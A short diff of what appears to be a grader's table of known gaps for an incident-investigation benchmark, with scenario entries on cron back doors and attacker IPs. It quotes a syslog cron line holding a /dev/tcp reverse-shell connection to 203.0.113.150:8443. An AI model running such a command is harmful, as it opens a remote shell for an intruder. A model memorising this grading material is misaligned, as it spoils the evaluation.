@@ -40,8 +40,6 @@ const KNOWN_GAPS: Record<string, Record<string, string>> = {
       "the cron job's runs (syslog `(www-data) CMD (… /dev/tcp/203.0.113.150/8443 …)`) are not attacker events; only the flows they cause are",
     'lists each back door once':
       'the crontab edit is listed twice as crontab:www-data (from its REPLACE and its END EDIT line)',
-    "does not call cron /^(root|crontab:root|crontab of root)$/ on wms-api-2 a back door: sudo crontab -u www-data -e changes www-data's crontab, not root's":
-      "the sudo line of `crontab -u www-data -e` is also reported as a back door in root's crontab",
   },
   'kestrel-aws': {
     "names 203.0.113.61 as the attacker's (login_source)":
